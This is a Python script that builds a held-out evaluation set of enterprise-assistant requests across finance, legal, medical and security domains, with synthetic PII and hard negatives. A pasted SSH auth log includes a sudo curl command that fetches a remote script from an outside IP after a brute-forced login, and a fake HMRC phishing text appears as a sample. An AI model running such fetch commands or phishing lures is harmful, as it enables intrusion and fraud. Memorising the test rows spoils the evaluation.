"""Fourth hand-written held-out set ``fresh4.jsonl`` -- an ACCEPTANCE-STYLE
EVALUATION set. NEVER used for training, tuning or error analysis.

Why it exists: fresh.jsonl, fresh2.jsonl and fresh3.jsonl have all been
looked at, so none of them is an honest stand-in for the unseen acceptance
set any more. These rows were written by an independent author who did not
run the classifier on them and did not look at any model error, imitating the
acceptance brief: "realistic, varied requests across all intents and domains
(terse and long, pasted emails, logs, code, contracts), 60+ multi-task
requests, PII of every type in varied formats, and hard negatives".

What is in it: requests as they arrive at an enterprise assistant -- one-word
fragments and 200-word pasted threads, Slack-speak, formal memos, typos,
non-English asks, run-on multi-asks ("do X, then Y, oh and Z"), material that
carries the domain on its own (auth logs, SLAs, lab panels, P&L extracts),
general asks that only mention money/health/law/passwords, PII in many
formats (cards spaced/dashed/bare incl. Amex, IBANs from several countries
spaced and compact, phones in US/UK/SG/DE/FR/IN/AU/IE/JP style, IPv4 and
IPv6, SSNs, NRIC/FINs of every prefix, names, emails) and hard negatives
(order/invoice/ticket ids, version strings, Luhn-failing 16-digit numbers,
IBAN-shaped strings with a wrong checksum, dates, amounts, serials).

Label guide (the project's): domain is whose expert you would ask -- personal
money, tax, insurance cover, prices, budgets, accounting, markets -> finance;
rights, disputes, appeals, contracts, compliance, employment law -> legal;
symptoms, drugs, care, clinical notes, health records -> medical; accounts,
attacks, phishing, malware, access control, vulnerabilities -> security;
office, social, technical-but-not-security or creative asks that merely
mention such words -> general; a neutral ask ("summarise this") takes the
domain of its material. Complexity is low unless the ask weighs options or
needs a multi-step argument (medium) or a long structured deliverable / deep
analysis (high). Sensitivity: public by default, internal for internal
business material, confidential for personal data, restricted for cards,
IBANs, SSNs, NRICs and credentials. Tools: calculator / retrieval (company
documents) / browsing (live web) / code_execution (code must be run).

Record format (different from the other source scripts on purpose). A record
is one or more task lines followed by the request text:

    @ <intent> <d> <cx> <s> [calc|retr|web|exec ...] [:: <clause text>]
    @ !hn                       (optional: row is a hard negative)
    <request text, any number of lines, blank lines kept>

d in g/f/l/m/s, cx in l/m/h, s in p/i/c/r. A single-task record may omit the
clause (it defaults to the request up to the first blank line); a multi-task
record gives every clause, and each clause must occur verbatim in the
request. ``[[TYPE:value]]`` marks an inline PII value, ``{{NAME}}`` pastes a
value or a block from the tables below (blocks bring their own blank line).

Usage: ``python tests/data/intent/fresh4_source.py`` (rewrites fresh4.jsonl
and validates it).
"""

# ruff: noqa: E501  (data tables: long literal phrasings read better unwrapped)

from __future__ import annotations

import re

from corpus import (
    CARD_TOKEN,
    HERE,
    Row,
    Values,
    mark,
    positional,
    pv,
    record_rows,
    write_and_check,
)

_v = Values(40404)
_rng = _v.rng
_card, _iban, _bad_iban, _nric, _ssn = _v.card, _v.iban, _v.bad_iban, _v.nric, _v.ssn
# this set writes the code_execution tool as "exec"
_SPEC = positional({"calc": "calculator", "retr": "retrieval", "web": "browsing",
                    "exec": "code_execution"})  # fmt: skip


_VALUES = {
    "CARD_VISA_SP": mark("CREDIT_CARD", _card("4", 16, " ")),
    "CARD_VISA_BARE": mark("CREDIT_CARD", _card("4", 16, "")),
    "CARD_MC_DASH": mark("CREDIT_CARD", _card("53", 16, "-")),
    "CARD_MC2_SP": mark("CREDIT_CARD", _card("2221", 16, " ")),
    "CARD_AMEX_SP": mark("CREDIT_CARD", _card("37", 15, " ")),
    "CARD_AMEX_BARE": mark("CREDIT_CARD", _card("34", 15, "")),
    "CARD_DISC_DASH": mark("CREDIT_CARD", _card("6011", 16, "-")),
    "CARD_VISA_DASH": mark("CREDIT_CARD", _card("4", 16, "-")),
    "IBAN_DE_SP": mark("IBAN", _iban("DE", True)),
    "IBAN_FR_SP": mark("IBAN", _iban("FR", True)),
    "IBAN_NL_BARE": mark("IBAN", _iban("NL", False)),
    "IBAN_ES_SP": mark("IBAN", _iban("ES", True)),
    "IBAN_IT_BARE": mark("IBAN", _iban("IT", False)),
    "IBAN_CH_SP": mark("IBAN", _iban("CH", True)),
    "IBAN_GB_BARE": mark("IBAN", _iban("GB", False)),
    "IBAN_IE_SP": mark("IBAN", _iban("IE", True)),
    "IBAN_PL_BARE": mark("IBAN", _iban("PL", False)),
    "IBAN_BE_SP": mark("IBAN", _iban("BE", True)),
    "SSN_A": mark("US_SSN", _ssn("-")),
    "SSN_B": mark("US_SSN", _ssn("-")),
    "SSN_C": mark("US_SSN", _ssn(" ")),
    "SSN_D": mark("US_SSN", _ssn("-")),
    "NRIC_S": mark("SG_NRIC", _nric("S")),
    "NRIC_T": mark("SG_NRIC", _nric("T")),
    "NRIC_F": mark("SG_NRIC", _nric("F")),
    "NRIC_G": mark("SG_NRIC", _nric("G")),
    "NRIC_M": mark("SG_NRIC", _nric("M")),
    "NRIC_S2": mark("SG_NRIC", _nric("S")),
    # hard negatives: look like PII, are not (never marked)
    "BADCARD1": pv.bad_card(_rng),
    "BADCARD2": pv.bad_card(_rng).replace(" ", "").replace("-", ""),
    "BADCARD3": pv.bad_card(_rng),
    "BADIBAN_DE": _bad_iban("DE", True),
    "BADIBAN_NL": _bad_iban("NL", False),
    "BADIBAN_FR": _bad_iban("FR", True),
    "BADNRIC": pv.bad_nric(_rng),
}

# ---------------------------------------------------------------- pasted material
_AUTHLOG = """Oct 14 02:11:07 bastion-01 sshd[20817]: Failed password for invalid user admin from [[IP_ADDRESS:185.220.101.47]] port 40112 ssh2
Oct 14 02:11:09 bastion-01 sshd[20817]: Failed password for invalid user admin from [[IP_ADDRESS:185.220.101.47]] port 40112 ssh2
Oct 14 02:11:15 bastion-01 sshd[20822]: Failed password for root from [[IP_ADDRESS:185.220.101.47]] port 40366 ssh2
Oct 14 02:13:40 bastion-01 sshd[20840]: Accepted publickey for deploy from [[IP_ADDRESS:10.20.4.18]] port 51022 ssh2
Oct 14 02:19:52 bastion-01 sshd[20911]: Accepted password for svc_backup from [[IP_ADDRESS:185.220.101.47]] port 41980 ssh2
Oct 14 02:20:03 bastion-01 sudo: svc_backup : TTY=pts/2 ; PWD=/home/svc_backup ; USER=root ; COMMAND=/usr/bin/curl -s http://[[IP_ADDRESS:45.61.136.9]]/x.sh"""

_SLA = """7.1 Service Levels. Supplier shall ensure the Platform is Available at least 99.9% of each calendar month, excluding Scheduled Maintenance notified at least five (5) Business Days in advance.
7.2 Service Credits. If Availability falls below the target, Customer shall be entitled to a credit of 5% of the monthly Fees for each 0.1% (or part thereof) below target, capped at 30% of the monthly Fees. Service Credits are Customer's sole and exclusive remedy for unavailability.
7.3 Claims. Customer must claim Service Credits in writing within thirty (30) days of the end of the affected month, failing which the entitlement lapses."""

_PNL = """Management P&L - EMEA (EUR k)      Q2 act   Q2 bud   Q1 act
Revenue                              4,812    5,100    4,655
Cost of sales                       (2,190)  (2,295)  (2,102)
Gross profit                         2,622    2,805    2,553
Opex - people                       (1,480)  (1,420)  (1,455)
Opex - marketing                      (390)    (450)    (312)
Opex - other                          (275)    (260)    (281)
EBITDA                                 477      675      505"""

_GPNOTE = """Consultation 12/03 - [[PERSON:Margaret Ellison]], 67F
PC: 3/7 increasing breathlessness, productive cough green sputum, fever 38.4.
PMH: COPD (FEV1 52%), T2DM on metformin 1g BD, AF on apixaban 5mg BD.
O/E: RR 24, SpO2 89% RA, HR 112 irreg, BP 132/78. Coarse creps R base.
Imp: infective exacerbation COPD ?CAP.
Plan: CRB-65 = 1. Discussed admission vs home with rescue pack; pt prefers home. Doxycycline 200mg stat then 100mg OD 5/7, prednisolone 30mg OD 5/7. Safety-net given. Review 48h; daughter ([[PHONE:07700 900 461]]) to call if worse."""

_RETRO = """Sprint 41 retro (payments squad)
Went well: feature flags let us ship the refund flow dark; pairing on the reconciliation job
Not so well: 3 days lost to flaky e2e tests; design handoff for the settings page came mid-sprint; on-call got paged 9 times, 7 were noise
Ideas: quarantine flaky tests automatically; design freeze 2 days before planning; tune the p95 latency alert
Actions: Tomasz - flaky test quarantine script; Bea - talk to design lead; Kenji - alert thresholds by next Weds"""

_PYBUG = """```python
def average_order_value(orders):
    total = 0
    for o in orders:
        if o["status"] == "paid":
            total += o["amount"]
    return total / len(orders)
```"""

_VENDOR_MAIL = """From: [[PERSON:Henrik Dahl]] <[[EMAIL:h.dahl@nordpack-supplies.se]]>
To: [[EMAIL:procurement@ourco.com]]
Subject: Price adjustment from 1 January

Dear customer,
Due to continued increases in pulp and energy costs we must adjust our prices. From 1 January the 400x300 corrugated box moves from SEK 11.20 to SEK 12.65 per unit, pallet wrap from SEK 389 to SEK 415 per roll, and the minimum order rises to 2,000 units. Orders placed before 15 December will be invoiced at current prices. Per section 9 of our framework agreement we are giving you the required 60 days' notice.
Best regards,
[[PERSON:Henrik Dahl]], Key Account Manager, [[PHONE:+46 8 123 456 78]]"""

_LABS = """FBC: Hb 104 g/L (L), MCV 74 fL (L), WCC 7.2, Plt 412 (H)
Ferritin 9 ug/L (L), B12 310 ng/L, folate 6.1 ug/L
U&E: Na 139, K 4.4, Cr 68, eGFR >90
CRP 4
TSH 2.1"""

_ADVISORY = """Security advisory FG-IR-24-1187 (Critical, CVSS 9.6)
A heap-based buffer overflow in the SSL-VPN web portal of GateOS 7.0.0-7.0.13, 7.2.0-7.2.7 and 7.4.0-7.4.2 may allow an unauthenticated remote attacker to execute arbitrary code via crafted HTTP requests. Exploitation in the wild has been observed. Fixed in 7.0.14, 7.2.8 and 7.4.3. Workaround: disable SSL-VPN web mode."""

_REVIEWS = """1. "Checkout was smooth, delivery a day early. Will order again."
2. "The app logged me out three times while I was paying. Infuriating."
3. "Fine I guess. Packaging was excessive for one pair of socks."
4. "Support actually called me back within the hour, genuinely impressed."
5. "Charged for express shipping, got standard. Still waiting on that refund.\""""

_DISMISSAL = """Dear [[PERSON:Oliver Brandt]],
Further to the disciplinary hearing held on 2 May, I am writing to confirm the decision to terminate your employment with immediate effect on the grounds of gross misconduct, namely the unauthorised disclosure of client pricing to a competitor. You will be paid up to today's date together with any accrued but untaken holiday. You have the right to appeal this decision by writing to [[EMAIL:hr.appeals@kestrelgroup.co.uk]] within 5 working days, setting out your grounds in full.
Yours sincerely,
[[PERSON:Fiona McLeod]], HR Director"""

_SMS = """[SMS from 'HMRC-Refund'] You are due a tax refund of £326.14. To claim before it expires today, verify your details at hmrc-refund-portal.co/claim?id=88213"""

_ERRLOG = """2024-11-02T09:14:03.512Z ERROR [worker-3] job=invoice-export attempt=3
java.lang.OutOfMemoryError: Java heap space
    at java.util.Arrays.copyOf(Arrays.java:3537)
    at com.ourco.export.CsvWriter.append(CsvWriter.java:88)
    at com.ourco.export.InvoiceExportJob.run(InvoiceExportJob.java:142)
2024-11-02T09:14:03.530Z WARN  [scheduler] job=invoice-export marked FAILED, next run 10:00"""

_MEDLIST = """Current meds (from repeat list):
- sertraline 100mg OD
- tramadol 50mg QDS PRN (started last week by OOH)
- omeprazole 20mg OD
- atorvastatin 40mg ON
- sumatriptan 50mg PRN"""

_TENANCY = """12. The Tenant shall keep the interior of the Property in good and clean condition, fair wear and tear excepted. 13. The Landlord may retain from the Deposit any sums reasonably required to remedy breaches of clause 12. 14. Either party may end this tenancy after the first six months by giving not less than two months' notice in writing. 15. No pets may be kept at the Property without the Landlord's written consent."""

_THREAD = """From: [[PERSON:Rachel Osei]] <[[EMAIL:rachel.osei@brightwell.io]]>
To: [[PERSON:Marcus Lindqvist]]
Subject: RE: RE: Q4 campaign budget

Marcus - I've looked again. We can't do both the trade show (EUR 38k all in) and the paid social push (EUR 25k) inside the EUR 50k left. Social gave us 140 MQLs for 20k last quarter; the show gave 60 leads but 4 of them closed, avg deal 30k. Sales wants the show. I lean social because it's measurable. Your call by Thursday pls, the booth deposit is due Friday.
R

> From: [[PERSON:Marcus Lindqvist]]
> Can we just squeeze both in? Ask finance for 13k more?"""

_INCIDENT = """INC-7741 timeline (draft)
09:02 user reports MFA push she didn't request, approves it "by accident"
09:05 new inbox rule created: move mail containing 'invoice' to RSS Feeds
09:31 mail sent from her account to 212 external contacts, subject "Updated remittance details"
10:15 SOC disables account, revokes sessions
10:40 3 customers reply asking to confirm new bank details"""

_POLICY = """Travel & Expenses Policy v5 (extract)
3.1 Economy class for flights under 6 hours; premium economy allowed above 6 hours.
3.4 Hotel caps per night: London GBP 220, Paris EUR 210, Singapore SGD 300, elsewhere EUR 150.
4.2 Meals: up to EUR 60 per day when travelling; alcohol is not reimbursable.
6.1 Claims must be submitted within 30 days with itemised receipts."""

_ECB = """The European Central Bank cut its deposit rate by a quarter point to 3.25% on Thursday, its third cut this year, citing a faster-than-expected fall in inflation and weakening business surveys. The ECB President declined to commit to further moves, saying decisions would remain data-dependent, but markets now price roughly two more cuts by mid-2025. The euro fell 0.4% against the dollar after the announcement, while bank shares slipped on worries about narrower lending margins."""

_MAT = {
    "ECB": _ECB,
    "AUTHLOG": _AUTHLOG, "SLA": _SLA, "PNL": _PNL, "GPNOTE": _GPNOTE, "RETRO": _RETRO,
    "PYBUG": _PYBUG, "VENDOR_MAIL": _VENDOR_MAIL, "LABS": _LABS, "ADVISORY": _ADVISORY,
    "REVIEWS": _REVIEWS, "DISMISSAL": _DISMISSAL, "SMS": _SMS, "ERRLOG": _ERRLOG,
    "MEDLIST": _MEDLIST, "TENANCY": _TENANCY, "THREAD": _THREAD, "INCIDENT": _INCIDENT,
    "POLICY": _POLICY,
}  # fmt: skip


# ---------------------------------------------------------------- the rows
ROWS = r"""
@ qa f l p
what's the actual difference between APR and APY? my bank app shows both and they're not the same number

@ math f l p calc
18.5k car loan, 6.9% APR, 48 months — monthly payment?

@ reasoning f m p
We've got about €40k sitting in the business current account doing nothing. Options: (a) money-market fund, (b) overpay the 5.1% term loan, (c) leave it as a buffer. We're seasonal and Q1 is always thin. What would you do and why?

@ draft f l i
Draft a note to all budget holders: Q3 reforecasts are due in Adaptive by 5pm Friday 20 September. No extensions this time, and anything not submitted gets rolled forward from Q2.

@ classify f l i
tag each of these corporate card lines as travel / meals / software / other

UBER *TRIP 23.40
FIGMA MONTHLY 45.00
PRET A MANGER 8.95
AMAZON MKTPLACE 129.99
EASYJET 212.00

@ sentiment f l p
CFO on the earnings call: "We're pleased with the top line, but we're being deliberately cautious on H2 given what we're seeing in order intake." How would you read the tone — positive or negative for the stock?

@ summarize f l p
Summarise in 3 bullets for the exec team {{ECB}}

@ translate f l i
Can you put this into German for the Frankfurt team: "Quarter-end close starts on the 28th. Please post all accruals and intercompany recharges by then."

@ code f l p
google sheets formula - sum column D only where column B = "Travel" and the date in column A is in 2024

@ qa f l p
How does the VAT reverse charge work when an Irish company buys a SaaS subscription from a US vendor?

@ math f l p calc
if inflation averages 3.5% a year what is 100k today worth in real terms in 10 years

@ extract f l c
Pull out every price change, the effective date and the notice period from this: {{VENDOR_MAIL}}

@ reasoning f m c calc
Given this, is it worth placing a big order before 15 Dec? We use roughly 1,500 boxes a month and have space for about 3 months of stock. {{VENDOR_MAIL}}

@ qa f l p
whats a sinking fund

@ qa f l p web
what's the EUR/GBP rate right now? need it for an invoice going out today

@ math f l p calc
Gross salary 62,000, pension is 5% salary sacrifice. What's my taxable pay?

@ draft f l c
Email [[PERSON:Ana Ribeiro]] ([[EMAIL:ana.ribeiro@fastmail.pt]]) to tell her the second instalment of her loan will be collected on the 3rd, not the 1st, because of the bank holiday. Apologise for the short notice.

@ reasoning f h i calc
Review this P&L and give me a proper variance commentary for the board pack: what drove the EBITDA miss vs budget, what's one-off vs structural, and what you'd want to see in Q3. Keep it to a page. {{PNL}}

@ math f l i calc
gross margin % for each column pls {{PNL}}

@ chat g l p
lol finance just rejected my €4 coffee claim. anyway how's your day going

@ creative g l p
write a short retirement poem for Brian in accounts payable — 31 years, never lost an invoice, obsessed with his allotment

@ reasoning f m p
I'm on an unpaid sabbatical this year so my income is tiny. Is this the year to do a Roth conversion, or am I missing a catch?

@ classify f l p
For each, capex or opex? new forklift, annual software licence, roof repair, server rack, office cleaning contract, laptop refresh for 40 staff

@ extract f l r
Grab the card number, expiry and amount from this chargeback note so I can paste them into the form: "Cardholder disputes EUR 1,249.00 at HOTEL MIRAMAR LISBOA on 14/08, card {{CARD_VISA_SP}} exp 09/27, says she checked out on 12/08."

@ draft f l r
Write a short email to treasury asking them to release the EUR 18,400 payment to our new supplier. Their IBAN is {{IBAN_DE_SP}}, reference PO 4500128871. Mention that the bank confirmation letter is attached.

@ qa f l r
my customer gave me {{IBAN_NL_BARE}} for the refund — is that a Dutch account, and can you tell which bank from it?

@ sentiment f l p
how do investors seem to feel about this? "Shares of Halvor Retail tumbled 14% after the group slashed its full-year guidance for the second time in three months, with analysts calling the update 'a credibility problem'."

@ translate f l p
¿Me lo traduces al inglés? "El pago de la factura vence el 30 de noviembre; a partir de esa fecha se aplicarán intereses de demora."

@ qa f l p
whats an escrow account and why does the mortgage lender insist on one

@ math f l p calc
Bought 120 shares at 43.10, sold 80 of them at 51.75, 9.99 fee per trade. Realised profit so far?

@ code f m i
Write a pandas script that reads our monthly GL export (columns: date, account, cost_centre, amount) and produces a pivot of spend by cost centre by month, flagging any month that's 20% above that cost centre's average.

@ reasoning f m p
Should we pay our contractors in USD or in their local currency? About 15 people in 6 countries, and all our revenue is in USD.

@ qa f l p
how are EMI share options taxed when I exercise them? UK

@ draft f l p
write a polite message to a client saying our day rates go up 6% from April. keep it warm, they've been with us 5 years

@ summarize f l c
tl;dr this for me {{THREAD}}

@ reasoning f m c calc
Based on the numbers in this thread, which should Marcus pick, the show or paid social? Show your working. {{THREAD}}

@ qa f l i
Can I book premium economy to Singapore (13h flight)? And is a SGD 280 hotel OK? {{POLICY}}

@ math f l i calc
3 nights in Paris at EUR 245 a night plus meals of about 70/day for 4 days. How much of that gets reimbursed under this? {{POLICY}}

@ summarize f l i
summarize the policy in 3 bullets for new joiners {{POLICY}}

@ draft f l r
Customer [[PERSON:Robert Kline]] wants his $212.40 refund back on his Discover card {{CARD_DISC_DASH}} instead of store credit. Draft the note to the payments team.

@ classify f l r
which card network is {{CARD_MC2_SP}}? and {{CARD_AMEX_BARE}}?

@ extract f l r
get the IBANs from this remittance list into one column, one per supplier:
Lumen SARL — {{IBAN_FR_SP}}
Casa Verde SL — {{IBAN_ES_SP}}
Ferri & Figli — {{IBAN_IT_BARE}}
Polanex Sp. z o.o. — {{IBAN_PL_BARE}}

@ qa f l r
does it matter that the client wrote their IBAN as {{IBAN_GB_BARE}} with no spaces on the form? our system wants it grouped

@ draft f l r
"Dear team, please set up a monthly standing order of EUR 1,150 to [[PERSON:Aoife Byrne]], IBAN {{IBAN_IE_SP}}, ref RENT-FLAT2, starting 1 December." — can you turn this into a proper instruction for the bank

@ translate f l r
traduis en néerlandais pour le client belge : « Le remboursement sera versé sur votre compte {{IBAN_BE_SP}} dans un délai de 5 jours ouvrables. »

@ extract f l r
from this W-9 pull the name, SSN and address — Name: [[PERSON:Kevin Marsh]] / SSN: {{SSN_B}} / Address: 44 Elm St, Dayton OH 45402

@ qa f l r
the HR portal shows my SSN as {{SSN_C}} with spaces instead of dashes. will that mess up my W-2?

@ qa f l p
Why do bond prices fall when interest rates go up?

@ qa f l p web
What did the S&P 500 close at yesterday?

@ math f l p calc
sales tax is 8.875%, the invoice pre-tax is 3,460. total?

@ reasoning f m p
Is life insurance through work enough or should I get my own policy? what do people usually do

@ qa l l p
can my employer read my whatsapp on my personal phone if i also use it for work

@ qa l l p
Is a verbal agreement legally binding in England?

@ reasoning l m p
A customer is threatening to sue because our app deleted her photos during an update. Our T&Cs exclude liability for data loss. How strong is that exclusion likely to be, and what should we do now?

@ draft l m p
Draft a cease and desist letter to a company using a logo almost identical to ours (the same teal wordmark) on their packaging. Firm but not aggressive, give them 14 days to stop.

@ summarize l l i
what does this actually commit us to? 3 bullets {{SLA}}

@ math l l i calc
Availability last month was 99.62%. Under this clause, what credit % do we get? {{SLA}}

@ reasoning l m i
We had a 6-hour outage on 3 Sept but only noticed the credit clause today, 8 Nov. Can we still claim anything? What are our arguments? {{SLA}}

@ extract l l i
List every deadline and time limit in this as a table (what / how long / counted from when). {{SLA}}

@ qa l l p
what's the difference between a warranty and an indemnity

@ classify l l p
Label each clause as (A) limitation of liability, (B) confidentiality, (C) termination or (D) other:
1) "Either party may terminate on 90 days' written notice."
2) "Neither party shall be liable for indirect or consequential loss."
3) "The Recipient shall not disclose Confidential Information to any third party."
4) "This Agreement is governed by the laws of Singapore."

@ reasoning l h c :: Go through it carefully: was the process fair, what grounds could his appeal rely on, and what evidence should he gather
@ draft l m c :: sketch an outline of the appeal letter
My brother got this yesterday. Go through it carefully: was the process fair, what grounds could his appeal rely on, and what evidence should he gather? Then sketch an outline of the appeal letter. {{DISMISSAL}}

@ draft l m c
Write the appeal letter for him. He says he shared the price list by mistake in a reply-all, he'd never had a warning before, and nobody told him he could bring someone to the hearing. {{DISMISSAL}}

@ extract l l c
Who sent this, who is it to, and what's the deadline and address for the appeal? {{DISMISSAL}}

@ qa l l p
Wat is de opzegtermijn voor een huurcontract in Nederland als huurder?

@ translate l l p
translate clause 14 into French please: "Either party may end this tenancy after the first six months by giving not less than two months' notice in writing."

@ reasoning l m c
Landlord kept £450 of my deposit for "repainting" after 3 years. The walls just had normal scuffs. Is that allowed under this, and how would I argue it? {{TENANCY}}

@ qa l l p
is it legal to ask a job candidate how old they are?

@ qa l l p
GDPR question: how long are we allowed to keep CVs of candidates we rejected?

@ draft l h p
Draft a complete data processing agreement annex for our SaaS product: subject matter and duration, categories of data subjects and personal data, sub-processors, technical and organisational security measures, breach notification within 48h, audit rights, and return/deletion at the end of the contract.

@ sentiment l l p
Is this from their lawyers escalating or fishing for a settlement? "Our client remains willing to explore a resolution without recourse to litigation, provided a substantive proposal is received by 30 June."

@ code g l p
write a regex that finds clause references like "clause 7.2", "Clause 12(b)" or "cl. 4.1.3" in a text file — legal ops want to index them

@ creative g l p
5 name ideas for the legal team's new contract-request intake bot, nothing with "lex" in it please

@ qa l l p
can i be sacked for something i posted on my private instagram

@ classify l l p
what kind of dispute is this: employment, consumer, landlord/tenant, or business-to-business contract? "We paid a design agency a 50% deposit, they missed every deadline and now won't hand over the files unless we pay the rest."

@ reasoning l m p
We want to use recorded customer support calls to fine-tune a model. What do we need to check legally before we do it, and what's the safest route?

@ qa l l p
what does "without prejudice" mean at the top of an email

@ math l l p calc
judgment debt of £14,200 with 8% statutory interest running from 1 March to 17 October — how much interest is that?

@ draft l l c
write to [[PERSON:Daniel Okonkwo]] at [[EMAIL:d.okonkwo@harlowlegal.com]] confirming we accept service by email and asking for the hearing bundle by the 21st

@ extract l l r
From this form pull the name, FIN and lease start date: "Tenant: [[PERSON:Li Wei Ng]], FIN {{NRIC_G}}, lease starts 1 Feb 2025, 24 months, monthly rent S$3,800."

@ draft l l r
Write a cover letter to the immigration attorney, [[PERSON:Sandra Whitlock]], enclosing the I-9 documents for our new hire; his SSN is {{SSN_D}}. Ask whether anything else is needed before the start date.

@ qa l l p
Non-compete in my offer says 12 months, whole of Europe. Is that even enforceable?

@ reasoning l m i
Our biggest client wants unlimited liability for data breaches in the renewal. We're a 25-person company. Accept, push back, or walk away? Walk me through it.

@ qa l l p
what's the difference between a trademark and a copyright, for a logo

@ summarize l l p
explain in a couple of sentences what this means for ordinary people: "The Court held that the platform, by actively recommending the infringing content to users, could not rely on the hosting exemption, and was therefore directly liable for the communication to the public."

@ qa l l p web
has the EU AI Act's ban on prohibited practices already come into force or is that still next year?

@ qa m l p
is it ok to drink alcohol on antibiotics

@ qa m l p
my 4yo has a fever of 39.2 but she's still running around and playing. do we need to see a doctor?

@ summarize m l c
Summarise for the out-of-hours handover, 4 lines max. {{GPNOTE}}

@ reasoning m m c
Was home treatment reasonable here? What would have made you admit her instead? {{GPNOTE}}

@ extract m l c
list the drugs with dose, frequency and duration {{GPNOTE}}

@ classify m l c
CRB-65 says 1, but what risk category would you put her in — low, moderate or high? one word {{GPNOTE}}

@ reasoning m m c
What's the most likely explanation for these bloods? 34-year-old woman, tired all the time, heavy periods. {{LABS}}

@ extract m l c
flag every abnormal result with its value and whether it's high or low {{LABS}}

@ reasoning m m c
Anything risky in this combination? She's been sweating, shaky and feels "wired" since last week. {{MEDLIST}}

@ classify m l c
Which of these are prescription-only in the UK and which can you buy over the counter? {{MEDLIST}}

@ math m l p calc
Paracetamol for a 14 kg toddler at 15 mg/kg, the bottle is 120 mg/5 mL. How many mL per dose?

@ math m l p calc
BMI for 1.68 m and 82 kg?

@ qa m l p
what's the difference between a heart attack and a cardiac arrest

@ translate m l p
Translate for the patient into Arabic: "Take one tablet twice a day with food. Stop and call us if you get a rash."

@ translate m l p
could you translate this discharge instruction into simplified Chinese: "Keep the wound dry for 48 hours and change the dressing every two days."

@ draft m l p
Write a friendly text reminder for patients about their flu jab appointment; say they should reply CANCEL if they can't make it

@ draft m h p
Write a patient information leaflet on living with newly diagnosed type 2 diabetes: what it is, diet, activity, medication, foot care, warning signs of high and low sugar, and who to contact. Plain English, reading age about 11.

@ sentiment m l p
How does this patient feel about their care? "Nurses were kind but nobody told me what the scan showed and I went home more scared than when I arrived."

@ classify m l p
triage these as emergency, urgent or routine: chest pain radiating to left arm / sprained ankle / sore throat for 2 days / sudden slurred speech

@ qa m l p
does ibuprofen raise blood pressure?

@ reasoning m m p
My dad had a stent put in last month and now wants to fly to Australia for a wedding. Is that safe, and what should he sort out before he goes?

@ qa m l p
Quels sont les effets secondaires courants de la metformine ?

@ code m m p
Write a Python function that calculates eGFR from serum creatinine, age and sex using the CKD-EPI 2021 equation.

@ draft m l c
Write a referral letter to Dr [[PERSON:Aisha Rahman]] (dermatology) for my patient [[PERSON:Tom Havers]], 52, with a changing mole on his back: 7mm, irregular border, itchy for 6 weeks. Two-week-wait urgent.

@ extract m l r
From this intake note get the name, date of birth, SSN and allergies into JSON: "Patient [[PERSON:Maria Delgado]], DOB 1979-03-22, SSN {{SSN_A}}, allergies: penicillin (rash)."

@ qa m l p
how long after eating should you wait before swimming? myth or real

@ chat g l p
thanks, the leaflet is perfect — you saved my afternoon

@ qa m l p
what does HbA1c actually measure

@ reasoning m m p
Knee replacement now at 61, or keep going with injections and physio for a few more years? Pain is 6/10 most days, I still cycle.

@ summarize m l p
Can you summarise this study abstract for a non-scientist? "In this randomised trial of 4,120 adults with prediabetes, a structured lifestyle programme reduced progression to type 2 diabetes by 38% over three years compared with usual care (HR 0.62, 95% CI 0.54-0.71). Adverse events were similar between groups."

@ math m l p calc
IV fluids: 1 litre over 8 hours, giving set is 20 drops/mL. Drops per minute?

@ qa m l p
Kann man Ibuprofen und Paracetamol zusammen nehmen?

@ reasoning m h p
Compare the main options for managing chronic low back pain in primary care (exercise therapy, NSAIDs, duloxetine, opioids, CBT-based approaches): evidence, risks, who each suits, and a stepped plan a GP could follow.

@ draft m l i
Write a short message to ward staff: from Monday, controlled drug checks must be signed by two registered nurses, no exceptions.

@ summarize s l c
what happened here? short summary pls {{AUTHLOG}}

@ reasoning s m c
Is svc_backup compromised? Walk me through the evidence and what to do in the next hour. {{AUTHLOG}}

@ extract s l c
list every external IP with the event and timestamp {{AUTHLOG}}

@ code s m c
write a fail2ban jail (or iptables rules if simpler) to block [[IP_ADDRESS:185.220.101.47]] and anything else that fails ssh 5 times in 10 minutes

@ classify s l p
Phishing, spam or legit? {{SMS}}

@ draft s l p
Write a 3-line warning for the intranet about fake "tax refund" texts.

@ qa s l p
what's the difference between SPF, DKIM and DMARC, one short paragraph each

@ reasoning s m i
Are we affected, and how urgent is this? We run GateOS 7.2.5 on both edge firewalls with SSL-VPN web mode on. {{ADVISORY}}

@ extract s l p
pull affected versions and fixed versions from this into a table {{ADVISORY}}

@ summarize s l p
One sentence for the CIO please {{ADVISORY}}

@ qa s l p web
has CISA added FG-IR-24-1187 to the known exploited vulnerabilities catalogue yet?

@ reasoning s h i
Write up a root-cause analysis for this incident: how the attacker got in, why our controls didn't stop it, the business impact, and a prioritised list of remediations with suggested owners. {{INCIDENT}}

@ draft s l i
Draft the notice to the 212 external contacts telling them to ignore the "Updated remittance details" email and that we will never change bank details by email. {{INCIDENT}}

@ classify s l i
What kind of attack is this: BEC, ransomware, credential stuffing or insider? {{INCIDENT}}

@ qa s l p
is it safe to reuse the same password if i add a different number at the end each time

@ code s l p
PowerShell to list all AD users who haven't changed their password in 180 days

@ code s l c exec
Run this from the jump box and tell me which ports are open: nmap -sV -p- [[IP_ADDRESS:10.40.2.15]]

@ math s l p calc
12 random lowercase letters as a password — how many combinations is that, and at 10 billion guesses a second how long to try them all?

@ sentiment s l p
how frustrated is this user? "third time this week I've been locked out because of your 'security'. I have a deadline. unlock it NOW."

@ translate s l p
translate into Spanish for our Madrid office: "Never approve an MFA request you didn't start yourself. Report it to the service desk immediately."

@ qa s l p
Was ist Ransomware und wie schütze ich mich davor?

@ creative g l p
write a short, slightly creepy story (about 150 words) about an employee who plugs in a USB stick they found in the car park — for our awareness week newsletter

@ draft s h p
Write a complete password and MFA policy for a 300-person company: scope, length and passphrase rules, allowed MFA methods, exceptions, service accounts, enforcement, and review cycle.

@ reasoning s m p
Someone spoofed our CEO's address to ask finance for gift cards. Should we move DMARC straight to p=reject or go through quarantine first? What are the trade-offs?

@ qa s l p
what is a supply chain attack, in simple terms

@ extract s l c
Give me the source IPs and user agents from these lines as CSV:
[[IP_ADDRESS:2a02:c7f:4c12:9e00::1]] - - [03/Nov/2024:11:02:41 +0000] "POST /wp-login.php HTTP/1.1" 200 "Mozilla/5.0 (Windows NT 10.0)"
[[IP_ADDRESS:2001:db8:85a3::8a2e:370:7334]] - - [03/Nov/2024:11:02:44 +0000] "POST /wp-login.php HTTP/1.1" 200 "python-requests/2.31"
[[IP_ADDRESS:203.0.113.77]] - - [03/Nov/2024:11:03:02 +0000] "GET /xmlrpc.php HTTP/1.1" 405 "curl/8.4.0"

